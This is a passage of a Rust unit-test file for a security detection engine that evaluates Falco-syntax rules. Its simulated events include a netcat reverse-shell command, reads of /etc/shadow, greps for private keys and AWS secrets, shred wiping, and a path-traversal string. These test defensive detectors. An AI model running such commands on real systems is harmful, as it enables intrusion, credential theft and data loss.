//! Unit tests of the Falco front end (condition translation, overrides,
//! exceptions, outputs) on small Falco-syntax rule files written for Picket.

use std::{path::PathBuf, sync::Arc};

use super::Status;
use crate::{
    model::{
        Ancestor, Capabilities, Container, Endpoint, Event, EventKindName as K, Executable, FdDup,
        FdType, FileAccess, Image, Network, PtraceOp, Severity, SocketInfo, Syscall,
    },
    rules::{Engine, RuleSet, diagnostics::render},
};

fn shaped_path() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/falco/stable-shaped.yaml")
}

fn load(files: &[(&str, &str)]) -> RuleSet {
    RuleSet::from_sources(
        files
            .iter()
            .map(|(p, t)| (PathBuf::from(p), t.to_string()))
            .collect(),
    )
    .unwrap_or_else(|d| panic!("{}", render(&d)))
}

fn shaped() -> Engine {
    Engine::new(RuleSet::load(&[shaped_path()]).unwrap_or_else(|d| panic!("{}", render(&d))))
}

fn ts() -> jiff::Timestamp {
    jiff::Timestamp::from_second(1_800_000_000).expect("ts")
}

fn anc(path: &str, cmdline: &str) -> Arc<Ancestor> {
    Arc::new(Ancestor {
        exec_id: "a".into(),
        pid: 7,
        executable: Executable {
            path: path.into(),
            name: path.rsplit('/').next().unwrap_or(path).into(),
            written_after_container_start: None,
        },
        command_line: cmdline.into(),
    })
}

/// A process event; `args` is argv (argv[0] first).
fn ev(kind: K, path: &str, args: &[&str], in_container: bool) -> Event {
    let mut e = Event::new(kind, ts());
    e.process.executable = Executable {
        path: path.into(),
        name: path.rsplit('/').next().unwrap_or(path).into(),
        written_after_container_start: None,
    };
    e.process.command_args = args.iter().map(|s| s.to_string()).collect();
    e.process.command_line = args.join(" ");
    e.process.pid = 4242;
    e.process.working_directory = "/srv".into();
    e.process.ancestors = vec![
        anc("/usr/sbin/nginx", "nginx: worker"),
        anc("/sbin/init", "/sbin/init"),
    ];
    if in_container {
        e.container = Some(Container {
            id: "3f4e5d6c7b8a".into(),
            name: "web".into(),
            image: Some(Image {
                name: "registry.example/shop/web:1.2".into(),
            }),
            ..Default::default()
        });
    }
    e
}

fn open(path: &str, flags: u32, proc_path: &str) -> Event {
    let mut e = ev(K::FileOpen, proc_path, &[proc_path], true);
    e.syscall = Some(Syscall {
        name: "openat".into(),
        result: 3,
    });
    let acc = flags & 3;
    e.file = Some(FileAccess {
        path: path.into(),
        flags,
        write: acc == 1 || acc == 2,
        truncate: flags & 0o1000 != 0,
        create: flags & 0o100 != 0,
        normalized_path: FileAccess::normalize(path),
    });
    e
}

fn fired(engine: &Engine, e: &Event) -> Vec<String> {
    let mut ids: Vec<String> = engine.evaluate(e).into_iter().map(|a| a.rule.id).collect();
    ids.sort();
    ids
}

#[test]
fn stable_shaped_file_report() {
    let set = RuleSet::load(&[shaped_path()]).unwrap_or_else(|d| panic!("{}", render(&d)));
    let mut active: Vec<&str> = Vec::new();
    let mut disabled: Vec<(&str, String)> = Vec::new();
    for r in set.falco_report() {
        match &r.status {
            Status::Active => active.push(&r.id),
            Status::Disabled(reasons) => disabled.push((&r.id, reasons.join(" | "))),
            Status::DisabledInFile => disabled.push((&r.id, "in file".into())),
            Status::Shadow(_) => panic!("no shadow by default"),
        }
    }
    assert_eq!(
        active,
        [
            "falco-secret-file-read-by-untrusted-program",
            "falco-shell-under-a-server-process",
            "falco-interactive-shell-in-a-container",
            "falco-netcat-with-command-execution",
            "falco-grep-for-private-keys",
            "falco-log-file-truncated",
            "falco-data-wiping-tool",
            "falco-module-loaded-from-a-container",
            "falco-release-agent-written",
            "falco-ptrace-attach",
            "falco-ptrace-traceme",
            "falco-grep-for-cloud-credentials",
            "falco-run-from-shared-memory",
            "falco-new-binary-executed-in-container",
            "falco-fileless-execution",
            "falco-stdio-redirected-to-a-socket",
            "falco-symlink-to-a-secret-file",
            "falco-session-user-login",
            "falco-ssh-to-a-web-port",
        ]
    );
    let ids: Vec<&str> = disabled.iter().map(|(i, _)| *i).collect();
    assert_eq!(ids, ["falco-disabled-example"]);
    assert_eq!(disabled[0].1, "in file");
    let r = set
        .get("falco-secret-file-read-by-untrusted-program")
        .expect("rule");
    assert_eq!(
        (r.name.as_str(), r.severity, r.events.as_slice()),
        (
            "Secret file read by untrusted program",
            Severity::Medium,
            &[K::FileOpen][..]
        )
    );
    assert_eq!(
        set.get("falco-release-agent-written").expect("r").severity,
        Severity::Critical
    );
    assert_eq!(
        set.get("falco-grep-for-private-keys").expect("r").severity,
        Severity::Medium
    );
    assert_eq!(
        set.get("falco-ptrace-traceme").expect("r").severity,
        Severity::Low
    );
    // The rule with `dup` in its evt.type list is reported for the missing sensor.
    assert_eq!(set.falco_report()[15].no_sensor, ["dup"]);
}

#[test]
fn each_active_rule_fires_on_its_trigger_and_not_on_a_look_alike() {
    let e = shaped();
    // Secret file read: cat /etc/shadow, not by a trusted reader, not via the excepted job.
    let hit = open("/etc/shadow", 0, "/bin/cat");
    let alerts = e.evaluate(&hit);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].rule.name, "Secret file read by untrusted program");
    assert_eq!(
        alerts[0].message,
        "Secret file read (file=/etc/shadow dir=/etc process=cat parent=nginx gparent=init user=0 container=3f4e5d6c7b8a evt=openat)"
    );
    assert_eq!(
        fired(&e, &open("/etc/shadow", 0, "/usr/sbin/sshd")),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(&e, &open("/etc/shadow", 1, "/bin/cat")),
        Vec::<String>::new()
    );
    assert_eq!(fired(&e, &open("/etc/pam.d/login", 0, "/bin/cat")).len(), 1);
    let mut failed = open("/etc/shadow", 0, "/bin/cat");
    failed.syscall = Some(Syscall {
        name: "openat".into(),
        result: -13,
    });
    assert_eq!(fired(&e, &failed), Vec::<String>::new());
    let mut job = open("/etc/shadow", 0, "/bin/cat");
    job.process.ancestors = vec![
        anc("/bin/sh", "sh"),
        anc("/usr/bin/maintenance-job", "maintenance-job"),
    ];
    assert_eq!(fired(&e, &job), Vec::<String>::new());

    // Shell under a server process (nginx is an ancestor).
    let sh = ev(K::Exec, "/bin/sh", &["sh", "-c", "id"], true);
    assert_eq!(fired(&e, &sh), ["falco-shell-under-a-server-process"]);
    let health = ev(K::Exec, "/bin/sh", &["sh", "-c", "healthcheck"], true);
    assert_eq!(fired(&e, &health), Vec::<String>::new());

    // Interactive shell in a container, entered by runc (proc.tty != 0).
    let mut tty = ev(K::Exec, "/bin/bash", &["bash"], true);
    tty.process.ancestors = vec![anc("/usr/bin/runc", "runc exec")];
    tty.process.interactive = true;
    assert_eq!(fired(&e, &tty), ["falco-interactive-shell-in-a-container"]);
    tty.process.interactive = false;
    assert_eq!(fired(&e, &tty), Vec::<String>::new());
    let mut host = ev(K::Exec, "/bin/bash", &["bash"], false);
    host.process.ancestors.clear();
    host.process.interactive = true;
    assert_eq!(fired(&e, &host), Vec::<String>::new());

    let nc = ev(
        K::Exec,
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        true,
    );
    assert_eq!(fired(&e, &nc), ["falco-netcat-with-command-execution"]);
    let nc_plain = ev(K::Exec, "/usr/bin/nc", &["nc", "-z", "db", "5432"], true);
    assert_eq!(fired(&e, &nc_plain), Vec::<String>::new());

    let grep = ev(
        K::Exec,
        "/bin/grep",
        &["grep", "-r", "begin rsa private", "/home"],
        false,
    );
    assert_eq!(fired(&e, &grep), ["falco-grep-for-private-keys"]);
    let find = ev(
        K::Exec,
        "/usr/bin/find",
        &["find", "/", "-name", "id_rsa"],
        false,
    );
    assert_eq!(fired(&e, &find), ["falco-grep-for-private-keys"]);
    let aws = ev(
        K::Exec,
        "/bin/grep",
        &["grep", "AWS_SECRET_ACCESS_KEY", "-r", "/"],
        false,
    );
    assert_eq!(fired(&e, &aws), ["falco-grep-for-cloud-credentials"]);
    assert_eq!(
        fired(
            &e,
            &ev(
                K::Exec,
                "/bin/grep",
                &["grep", "error", "/var/log/syslog"],
                false
            )
        ),
        Vec::<String>::new()
    );

    // Log truncated, with the Falco exception (logrotate in /var/log).
    assert_eq!(
        fired(&e, &open("/var/log/auth.log", 0o1001, "/bin/bash")),
        ["falco-log-file-truncated"]
    );
    assert_eq!(
        fired(&e, &open("/var/log/auth.log", 0o2001, "/bin/bash")),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(
            &e,
            &open("/var/log/auth.log", 0o1001, "/usr/sbin/logrotate")
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(&e, &open("/opt/app/wtmp", 0o1001, "/usr/sbin/logrotate")),
        ["falco-log-file-truncated"]
    );

    assert_eq!(
        fired(
            &e,
            &ev(K::Exec, "/usr/bin/shred", &["shred", "-u", "x"], false)
        ),
        ["falco-data-wiping-tool"]
    );

    let mut module = ev(K::ModuleLoad, "/sbin/insmod", &["insmod", "x.ko"], true);
    module.syscall = Some(Syscall {
        name: "finit_module".into(),
        result: 0,
    });
    module.process.capabilities = Capabilities {
        effective: vec!["CAP_SYS_MODULE".to_string()].into(),
        permitted: vec![].into(),
    };
    assert_eq!(fired(&e, &module), ["falco-module-loaded-from-a-container"]);
    module.container = None;
    assert_eq!(fired(&e, &module), Vec::<String>::new());

    let mut ra = open("/sys/fs/cgroup/x/release_agent", 1, "/bin/sh");
    ra.process.capabilities = Capabilities {
        effective: vec!["CAP_SYS_ADMIN".to_string()].into(),
        permitted: vec![].into(),
    };
    assert_eq!(fired(&e, &ra), ["falco-release-agent-written"]);
    ra.process.user.id = 1000;
    assert_eq!(fired(&e, &ra), Vec::<String>::new());

    let mut pt = ev(K::Ptrace, "/usr/bin/strace", &["strace", "-p", "1"], false);
    pt.syscall = Some(Syscall {
        name: "ptrace".into(),
        result: 0,
    });
    pt.ptrace = Some(PtraceOp {
        request: "PTRACE_SEIZE".into(),
        request_id: 0x4206,
        target_pid: 1,
    });
    assert_eq!(fired(&e, &pt), ["falco-ptrace-attach"]);
    pt.ptrace = Some(PtraceOp {
        request: "PTRACE_TRACEME".into(),
        request_id: 0,
        target_pid: 0,
    });
    assert_eq!(fired(&e, &pt), ["falco-ptrace-traceme"]);
    pt.ptrace = Some(PtraceOp {
        request: "PTRACE_PEEKDATA".into(),
        request_id: 2,
        target_pid: 1,
    });
    assert_eq!(fired(&e, &pt), Vec::<String>::new());

    assert_eq!(
        fired(&e, &ev(K::Exec, "/dev/shm/x", &["/dev/shm/x"], false)),
        ["falco-run-from-shared-memory"]
    );
    let mut rel = ev(K::Exec, "/dev/shm/y", &["./y"], false);
    rel.process.working_directory = "/dev/shm".into();
    assert_eq!(fired(&e, &rel), ["falco-run-from-shared-memory"]);
    rel.process.working_directory = "/dev/shmx".into();
    assert_eq!(fired(&e, &rel), Vec::<String>::new());

    let mut dropped = ev(K::Exec, "/tmp/payload", &["/tmp/payload"], true);
    dropped.process.executable.written_after_container_start = Some(true);
    assert_eq!(
        fired(&e, &dropped),
        ["falco-new-binary-executed-in-container"]
    );
    dropped.process.executable.written_after_container_start = Some(false);
    assert_eq!(fired(&e, &dropped), Vec::<String>::new());

    let mut memfd = ev(K::Exec, "/memfd:x (deleted)", &["x"], false);
    memfd.process.ancestors = vec![anc("/bin/bash", "bash")];
    assert_eq!(fired(&e, &memfd), ["falco-fileless-execution"]);
    memfd.process.ancestors = vec![anc("/usr/bin/runc", "runc init")];
    assert_eq!(fired(&e, &memfd), Vec::<String>::new());

    let mut ssh = ev(
        K::Connect,
        "/usr/bin/ssh",
        &["ssh", "-p", "443", "x"],
        false,
    );
    ssh.syscall = Some(Syscall {
        name: "connect".into(),
        result: 0,
    });
    ssh.network = Some(Network {
        transport: "tcp".into(),
        r#type: "ipv4".into(),
        peer: Some(Endpoint {
            address: "203.0.113.9".into(),
            port: 443,
        }),
        local: None,
    });
    assert_eq!(fired(&e, &ssh), ["falco-ssh-to-a-web-port"]);
    if let Some(n) = ssh.network.as_mut() {
        n.peer = Some(Endpoint {
            address: "127.0.0.1".into(),
            port: 443,
        });
    }
    assert_eq!(fired(&e, &ssh), Vec::<String>::new());
}

const BASE: &str = r#"
- list: bins
  items: [cat, less]
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- rule: Cat run
  desc: test
  condition: spawned_process and proc.name in (bins)
  output: "cat %proc.name"
  priority: ERROR
  exceptions:
    - name: by_dir
      fields: proc.cwd
      comps: startswith
      values: []
"#;

#[test]
fn append_override_and_exceptions() {
    let over = r#"
- list: bins
  items: [more]
  append: true
- rule: Cat run
  exceptions:
    - name: by_dir
      values: [/opt/]
  append: true
- rule: Cat run
  output: "replaced %proc.exepath"
  override:
    output: replace
"#;
    let e = Engine::new(load(&[("a.yaml", BASE), ("b.yaml", over)]));
    let more = ev(K::Exec, "/bin/more", &["more"], false);
    let a = e.evaluate(&more);
    assert_eq!(a.len(), 1);
    assert_eq!(
        (a[0].rule.id.as_str(), a[0].message.as_str(), a[0].severity),
        ("falco-cat-run", "replaced /bin/more", Severity::High)
    );
    let mut in_opt = more.clone();
    in_opt.process.working_directory = "/opt/app".into();
    assert_eq!(fired(&e, &in_opt), Vec::<String>::new());
    in_opt.process.working_directory = "/opt".into();
    assert_eq!(fired(&e, &in_opt), Vec::<String>::new());

    // Condition replaced, then disabled by an `enabled`-only item.
    let replace = r#"
- rule: Cat run
  condition: spawned_process and proc.name = less
  override:
    condition: replace
"#;
    let e = Engine::new(load(&[("a.yaml", BASE), ("b.yaml", replace)]));
    assert_eq!(
        fired(&e, &ev(K::Exec, "/bin/cat", &["cat"], false)),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/bin/less", &["less"], false)),
        ["falco-cat-run"]
    );
    let off = "- rule: Cat run\n  enabled: false\n";
    let set = load(&[("a.yaml", BASE), ("b.yaml", off)]);
    assert_eq!(set.falco_report()[0].status, Status::DisabledInFile);
    let e = Engine::new(set);
    assert_eq!(
        fired(&e, &ev(K::Exec, "/bin/cat", &["cat"], false)),
        Vec::<String>::new()
    );
}

#[test]
fn operators_follow_falco_semantics() {
    let rules = r#"
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- rule: Glob crosses slashes
  desc: t
  condition: spawned_process and proc.exepath glob "/opt/*/run"
  output: g
  priority: INFO
- rule: Pmatch
  desc: t
  condition: spawned_process and proc.exepath pmatch (/usr/local/bin, /srv/)
  output: p
  priority: INFO
- rule: Not equal on absent
  desc: t
  condition: spawned_process and container.image.repository != nginx and proc.name = absent-test
  output: n
  priority: INFO
- rule: Regex is a full match
  desc: t
  condition: spawned_process and proc.name regex "py[0-9]"
  output: r
  priority: INFO
- rule: Ancestor index
  desc: t
  condition: spawned_process and proc.aname[2] = init and proc.apid[1] = 7 and proc.name = idx
  output: "a %proc.aname[1] %proc.apid[2] %user.name"
  priority: INFO
"#;
    let e = Engine::new(load(&[("f.yaml", rules)]));
    assert_eq!(
        fired(&e, &ev(K::Exec, "/opt/a/b/run", &["run"], false)),
        ["falco-glob-crosses-slashes"]
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/usr/local/bin/x", &["x"], false)),
        ["falco-pmatch"]
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/srv/x", &["x"], false)),
        ["falco-pmatch"]
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/usr/local/binx", &["binx"], false)),
        Vec::<String>::new()
    );
    // Host process: no image, `!=` is false as in Falco.
    assert_eq!(
        fired(&e, &ev(K::Exec, "/x/absent-test", &["absent-test"], false)),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/x/absent-test", &["absent-test"], true)),
        ["falco-not-equal-on-absent"]
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/usr/bin/py3", &["py3"], false)),
        ["falco-regex-is-a-full-match"]
    );
    assert_eq!(
        fired(&e, &ev(K::Exec, "/usr/bin/py34", &["py34"], false)),
        Vec::<String>::new()
    );
    let mut idx = ev(K::Exec, "/x/idx", &["idx"], false);
    let a = e.evaluate(&idx);
    assert_eq!(a.len(), 1);
    // No name resolved (events not from the pipeline): absent.
    assert_eq!(a[0].message, "a nginx 7 <none>");
    idx.process.user.name = Some("root".into());
    assert_eq!(e.evaluate(&idx)[0].message, "a nginx 7 root");
}

#[test]
fn picket_and_falco_rules_load_together() {
    let picket = r#"
rules:
  - id: cat-exec
    name: Cat
    severity: low
    events: [exec]
    condition: process.executable.name == "cat"
    tags: [T1005]
    output: "cat"
"#;
    let falco = r#"
- rule: Cat via Falco
  desc: t
  condition: evt.type in (execve, execveat) and proc.name = cat
  output: "falco cat %proc.cmdline"
  priority: NOTICE
  tags: [T1005]
"#;
    let e = Engine::new(load(&[("p.yaml", picket), ("f.yaml", falco)]));
    assert_eq!(
        fired(&e, &ev(K::Exec, "/bin/cat", &["cat", "x"], false)),
        ["cat-exec", "falco-cat-via-falco"]
    );
}

#[test]
fn hostile_input_is_reported_not_panicking() {
    for text in [
        "- rule: X\n  condition: (((\n  output: o\n  priority: INFO\n",
        "- rule: X\n  condition: a = 'unterminated\n  output: o\n  priority: INFO\n",
        "- macro: m\n  condition: m\n- rule: X\n  condition: evt.type=execve and m\n  output: o\n  priority: INFO\n",
        "- list: l\n  items: [l]\n- rule: X\n  condition: evt.type in (execve, execveat) and proc.name in (l)\n  output: '%%%(%proc.aname[99999999999]'\n  priority: INFO\n",
        "- rule: X\n  condition: proc.name = a\n  priority: nonsense\n",
        "- rule: X\n  condition: evt.type in (execve, execveat) and not not not\n  output: o\n  priority: INFO\n",
    ] {
        let set = load(&[("h.yaml", text)]);
        let r = &set.falco_report()[0];
        assert!(
            matches!(r.status, Status::Disabled(_)),
            "{text}: {:?}",
            r.status
        );
    }
    // A rule without `condition` or a condition-less `append` are reported.
    let d = RuleSet::from_sources(vec![(
        PathBuf::from("x.yaml"),
        "- rule: Y\n  append: true\n  condition: and x\n".into(),
    )])
    .expect_err("append of unknown rule");
    assert!(
        render(&d).contains("`append`/`override` of unknown rule `Y`"),
        "{}",
        render(&d)
    );
}

#[test]
fn shadow_mode_runs_unsupported_rules_without_alerting() {
    let text = "- rule: Root shell\n  desc: t\n  condition: evt.type in (execve, execveat) and proc.name = bash and not group.name = admin\n  output: o\n  priority: INFO\n- rule: Broken\n  desc: t\n  condition: evt.type in (execve, execveat) and not_a_macro\n  output: o\n  priority: INFO\n";
    let file = Arc::new(crate::rules::source::SourceFile {
        path: "s.yaml".into(),
        text: text.into(),
    });
    let root = crate::rules::yaml::parse(text).expect("yaml");
    let mut diags = Vec::new();
    let c = super::compile_with(&[(file, root)], &mut diags, super::Unsupported::Shadow);
    assert!(
        matches!(&c.report[0].status, Status::Shadow(r) if r == &["line 3: field `group.name`: Picket does not resolve group names (numeric ids only)".to_string()]),
        "{:?}",
        c.report[0].status
    );
    // Errors are never run, not even in shadow mode.
    assert!(
        matches!(&c.report[1].status, Status::Disabled(r) if r == &["line 8: unknown macro `not_a_macro`".to_string()]),
        "{:?}",
        c.report[1].status
    );
    let mut set_rules = c.rules.into_iter();
    let shadow = set_rules.next().expect("rule");
    assert!(shadow.enabled);
    assert_eq!(shadow.mode, crate::rules::Mode::Shadow);
    // `not group.name = admin` with the unsupported check false: true.
    assert!(
        shadow
            .condition()
            .eval(&ev(K::Exec, "/bin/bash", &["bash"], false))
    );
    assert!(!set_rules.next().expect("rule").enabled);
}

#[test]
fn lint_and_test_commands_report_falco_rules() {
    use crate::rules::cli;
    let mut out = Vec::new();
    let lint = |deny: bool, out: &mut Vec<u8>| {
        cli::lint(
            &cli::LintArgs {
                paths: vec![shaped_path()],
                deny_warnings: deny,
                falco_unsupported: Default::default(),
            },
            out,
        )
    };
    assert!(lint(false, &mut out));
    let text = String::from_utf8(out).expect("utf8");
    assert!(
        text.contains(
            "20 rule(s) in 1 file(s) OK (19 enabled)\nFalco rules: 19 rules active, 1 disabled\n"
        ),
        "{text}"
    );
    // Active since symlink/symlinkat map to `file_change` events.
    assert!(
        !text.contains("disabled: Symlink to a secret file"),
        "{text}"
    );
    assert!(text.contains("stable-shaped.yaml:194:9: warning [rule falco-stdio-redirected-to-a-socket, condition]: Falco rule `Stdio redirected to a socket`: no Picket sensor for evt.type dup; those events are never seen"), "{text}");
    assert!(
        !lint(true, &mut Vec::new()),
        "--deny-warnings fails on disabled rules"
    );

    let mut out = Vec::new();
    assert!(cli::test(
        &cli::TestArgs {
            paths: vec![shaped_path().parent().expect("dir").to_path_buf()],
            fixtures: Vec::new(),
            rules: Vec::new(),
            require_fixtures: false,
            update: false,
        },
        &mut out
    ));
    let text = String::from_utf8(out).expect("utf8");
    for line in [
        "PASS falco-netcat-with-command-execution (1 positive, 2 negative)",
        "PASS falco-data-wiping-tool (2 positive, 1 negative)",
        "PASS falco-run-from-shared-memory (2 positive, 1 negative)",
        "3 passed, 0 failed, 17 without fixtures",
    ] {
        assert!(text.contains(line), "{line}\n{text}");
    }
}

fn dup(new: i32, old_type: FdType, family: Option<&str>) -> Event {
    let mut e = ev(K::FdDup, "/bin/bash", &["bash", "-i"], true);
    e.syscall = Some(Syscall {
        name: "dup2".into(),
        result: i64::from(new),
    });
    e.fd = Some(FdDup {
        old: 3,
        new,
        old_type,
        socket: family.map(|f| SocketInfo {
            family: f.into(),
            peer: Some(Endpoint {
                address: "10.1.2.3".into(),
                port: 4444,
            }),
        }),
    });
    e
}

#[test]
fn newly_mapped_fields_activate_the_shaped_rules() {
    let e = shaped();
    // Stdio redirected to a socket: fd.type of the duplicated fd.
    let hit = dup(1, FdType::Socket, Some("inet"));
    let a = e.evaluate(&hit);
    assert_eq!(a.len(), 1);
    assert_eq!(
        (a[0].rule.id.as_str(), a[0].message.as_str()),
        ("falco-stdio-redirected-to-a-socket", "Redirect (fd=1)")
    );
    assert_eq!(
        fired(&e, &dup(0, FdType::Socket, Some("inet6"))),
        ["falco-stdio-redirected-to-a-socket"]
    );
    for benign in [
        dup(1, FdType::Socket, Some("unix")),
        dup(1, FdType::Socket, Some("unknown")),
        dup(1, FdType::Socket, None),
        dup(1, FdType::Pipe, None),
        dup(5, FdType::Socket, Some("inet")),
    ] {
        assert_eq!(fired(&e, &benign), Vec::<String>::new(), "{:?}", benign.fd);
    }
    let mut host = dup(1, FdType::Socket, Some("inet"));
    host.container = None;
    assert_eq!(fired(&e, &host), Vec::<String>::new());

    // Session user login: user.name and proc.duration.
    let mut login = ev(K::Exec, "/bin/sh", &["sh"], false);
    login.process.ancestors.clear();
    login.process.user.name = Some("daemon".into());
    login.process.start_time = Some(ts() - jiff::SignedDuration::from_secs(1));
    let a = e.evaluate(&login);
    assert_eq!(a.len(), 1);
    assert_eq!(
        (a[0].rule.id.as_str(), a[0].message.as_str()),
        ("falco-session-user-login", "login (user=daemon)")
    );
    // Exactly 5 s is still new (`<=`); 5 s + 1 ns is not.
    login.process.start_time = Some(ts() - jiff::SignedDuration::from_secs(5));
    assert_eq!(fired(&e, &login), ["falco-session-user-login"]);
    login.process.start_time = Some(ts() - jiff::SignedDuration::new(5, 1));
    assert_eq!(fired(&e, &login), Vec::<String>::new());
    login.process.start_time = Some(ts());
    login.process.user.name = Some("root".into());
    assert_eq!(fired(&e, &login), Vec::<String>::new());
    // Unknown start time or name: absent, the comparisons are false.
    login.process.user.name = Some("nobody".into());
    login.process.start_time = None;
    assert_eq!(fired(&e, &login), Vec::<String>::new());
}

#[test]
fn result_name_raw_path_and_privileged_flag() {
    let rules = r#"
- macro: open_read
  condition: (evt.type in (open,openat,openat2) and evt.is_open_read=true and fd.typechar='f' and fd.num>=0)
- macro: open_file_failed
  condition: (evt.type in (open,openat,openat2) and fd.typechar='f' and fd.num=-1 and evt.res startswith E)
- rule: Traversal
  desc: t
  condition: >
    (open_read or open_file_failed) and fd.name startswith /etc/
    and fd.nameraw contains '../' and fd.nameraw glob '*../*../*'
  output: "trav file=%fd.name raw=%fd.nameraw dir=%fd.directory base=%fd.filename res=%evt.res num=%fd.num"
  priority: WARNING
- rule: Privileged exec
  desc: t
  condition: evt.type in (execve, execveat) and container.privileged=true and proc.name=debugfs
  output: "priv %container.privileged %evt.res %proc.pid.ts"
  priority: WARNING
"#;
    let e = Engine::new(load(&[("f.yaml", rules)]));
    let mut hit = open("/srv/www/../../etc/./shadow", 0, "/usr/sbin/nginx");
    assert_eq!(
        hit.file.as_ref().and_then(|f| f.normalized_path.as_deref()),
        Some("/etc/shadow")
    );
    let a = e.evaluate(&hit);
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].message,
        "trav file=/etc/shadow raw=/srv/www/../../etc/./shadow dir=/etc base=shadow res=SUCCESS num=3"
    );
    // A failed attempt: fd.num is -1 and evt.res the errno name, as in Falco.
    hit.syscall = Some(Syscall {
        name: "openat".into(),
        result: -2,
    });
    let a = e.evaluate(&hit);
    assert_eq!(a.len(), 1);
    assert!(
        a[0].message.ends_with(" res=ENOENT num=-1"),
        "{}",
        a[0].message
    );
    // One `../` only, or a path outside /etc: no alert.
    assert_eq!(
        fired(&e, &open("/srv/../etc/shadow", 0, "/usr/sbin/nginx")),
        Vec::<String>::new()
    );
    assert_eq!(
        fired(&e, &open("/etc/../../srv/../x/y", 0, "/usr/sbin/nginx")),
        Vec::<String>::new()
    );
    // The direct path is not a traversal.
    assert_eq!(
        fired(&e, &open("/etc/shadow", 0, "/usr/sbin/nginx")),
        Vec::<String>::new()
    );

    let mut dbg = ev(K::Exec, "/sbin/debugfs", &["debugfs", "/dev/sda1"], true);
    dbg.process.start_time = Some(ts());
    assert_eq!(fired(&e, &dbg), Vec::<String>::new(), "unknown: no alert");
    if let Some(c) = dbg.container.as_mut() {
        c.privileged = Some(false);
    }
    assert_eq!(fired(&e, &dbg), Vec::<String>::new());
    if let Some(c) = dbg.container.as_mut() {
        c.privileged = Some(true);
    }
    let a = e.evaluate(&dbg);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].message, "priv true SUCCESS 1800000000000000000");
}

#[test]
fn normalization_is_lexical() {
    for (raw, want) in [
        ("/etc/shadow", None),
        ("/", None),
        ("relative/../x", None),
        ("/a/./b//c/", Some("/a/b/c")),
        ("/../../etc", Some("/etc")),
        ("/a/..", Some("/")),
        ("/var/www/html/../../../etc/passwd", Some("/etc/passwd")),
    ] {
        assert_eq!(FileAccess::normalize(raw).as_deref(), want, "{raw}");
    }
}

#[test]
fn privileged_rules_say_they_need_pod_metadata() {
    let text = "- rule: P\n  desc: t\n  condition: evt.type in (execve, execveat) and container.privileged=true\n  output: o\n  priority: INFO\n";
    let file = Arc::new(crate::rules::source::SourceFile {
        path: "p.yaml".into(),
        text: text.into(),
    });
    let root = crate::rules::yaml::parse(text).expect("yaml");
    let mut diags = Vec::new();
    let c = super::compile_with(&[(file, root)], &mut diags, super::Unsupported::Disable);
    assert_eq!(c.report[0].status, Status::Active);
    let shown = render(&diags);
    assert_eq!(diags.len(), 1, "{shown}");
    assert!(
        shown.contains("p.yaml:3:49: warning [rule falco-p, condition]: Falco rule `P`: `container.privileged` comes from the pod spec (`securityContext.privileged`) through the Kubernetes API; without pod metadata (host mode, pod not resolved yet) it is unknown and the rule does not fire"),
        "{shown}"
    );
}

/// The two stable rules on links, verbatim from falcosecurity/rules
/// (`falco_rules.yaml`), with the lists and macros they use.
const LINK_RULES: &str = r#"
- list: sensitive_file_names
  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/security/pwquality.conf]
- list: sensitive_directory_names
  items: [/, /etc, /etc/, /root, /root/]
- macro: create_symlink
  condition: (evt.type in (symlink, symlinkat))
- macro: create_hardlink
  condition: (evt.type in (link, linkat))
- rule: Create Symlink Over Sensitive Files
  desc: symlinks over sensitive files
  condition: >
    create_symlink
    and (evt.arg.target in (sensitive_file_names) or evt.arg.target in (sensitive_directory_names))
  output: Symlinks created over sensitive files | target=%evt.arg.target linkpath=%evt.arg.linkpath evt_type=%evt.type
  priority: WARNING
- rule: Create Hardlink Over Sensitive Files
  desc: hardlinks over sensitive files
  condition: >
    create_hardlink
    and (evt.arg.oldpath in (sensitive_file_names))
  output: Hardlinks created over sensitive files | target=%evt.arg.oldpath linkpath=%evt.arg.newpath evt_type=%evt.type
  priority: WARNING
"#;

/// A `file_change` event as the pipeline builds it: `file.path` is the
/// link (symlink) or the existing file (link), `target` the other path.
fn link_event(syscall: &str, op: &str, path: &str, target: &str) -> Event {
    let mut e = ev(K::FileChange, "/bin/ln", &["ln"], true);
    e.syscall = Some(Syscall {
        name: syscall.into(),
        result: 0,
    });
    e.file = Some(FileAccess {
        path: path.into(),
        flags: 0,
        write: true,
        truncate: false,
        create: true,
        normalized_path: None,
    });
    e.file_change = Some(crate::model::FileChange {
        op: op.into(),
        target: Some(target.into()),
        ..Default::default()
    });
    e
}

#[test]
fn stable_link_rules_run_on_file_change_events() {
    let e = Engine::new(load(&[("falco_links.yaml", LINK_RULES)]));
    let sym = link_event("symlinkat", "symlink", "/tmp/s", "/etc/shadow");
    let a = e.evaluate(&sym);
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].message,
        "Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/s evt_type=symlinkat"
    );
    let hard = link_event("linkat", "link", "/etc/sudoers", "/tmp/h");
    let a = e.evaluate(&hard);
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].message,
        "Hardlinks created over sensitive files | target=/etc/sudoers linkpath=/tmp/h evt_type=linkat"
    );
    assert_eq!(
        fired(&e, &link_event("symlink", "symlink", "/tmp/r", "/root")).len(),
        1
    );
    for benign in [
        link_event("symlinkat", "symlink", "/tmp/s", "/tmp/x"),
        // The link itself at a sensitive name is not what these rules test.
        link_event("symlinkat", "symlink", "/etc/shadow", "/tmp/x"),
        link_event("linkat", "link", "/tmp/a", "/etc/shadow"),
        // A rename of /etc/shadow is a file_change too, but not a link.
        link_event("renameat2", "rename", "/etc/shadow", "/tmp/x"),
